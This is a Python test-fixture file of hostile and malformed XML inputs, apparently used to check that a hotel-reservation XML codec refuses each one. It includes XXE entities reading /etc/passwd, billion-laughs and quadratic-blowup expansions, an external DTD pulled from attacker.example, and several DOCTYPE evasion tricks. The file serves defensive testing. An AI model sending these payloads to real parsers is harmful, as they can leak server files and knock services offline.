"""XML attacks and broken bodies for the codec: the abuse tests assert each refusal, bench/codec_abuse.py times it."""

from __future__ import annotations

MAX_BYTES = 1024 * 1024

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05">&xxe;</OTA_HotelResNotifRQ>"""

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)

EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE OTA_HotelResNotifRQ SYSTEM "http://attacker.example/x.dtd">'
    b'<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05"/>'
)

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]><r>' + b"&a;" * 10_000 + b"</r>"
)

DOCTYPE_AFTER_COMMENT_AND_PI = (
    b'<?xml version="1.0"?><!-- partner --><?pi x?>\n<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'
)

DOCTYPE_UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'.encode(
    "utf-16"
)

# past the prolog scan window: the check of the parsed document's DOCTYPE must catch it
DOCTYPE_AFTER_LONG_PROLOG = (
    b"<!--" + b"x" * 70_000 + b'-->\n<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
)

DEEP_NESTING = b"<a>" * 5000 + b"</a>" * 5000

TRUNCATED = b'<?xml version="1.0"?><OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05"><Hotel'

NOT_XML = b'{"HotelReservations": []}'

BINARY = bytes(range(256)) * 4

ATTACKS = {
    "xxe_file_entity": XXE_FILE,
    "billion_laughs": BILLION_LAUGHS,
    "external_dtd": EXTERNAL_DTD,
    "quadratic_blowup": QUADRATIC_BLOWUP,
    "doctype_after_comment_and_pi": DOCTYPE_AFTER_COMMENT_AND_PI,
    "doctype_in_utf16": DOCTYPE_UTF16,
    "doctype_after_long_prolog": DOCTYPE_AFTER_LONG_PROLOG,
    "nesting_5000_deep": DEEP_NESTING,
    "truncated_xml": TRUNCATED,
    "not_xml": NOT_XML,
    "binary": BINARY,
    "empty": b"",
    "whitespace_only": b"  \n ",
}
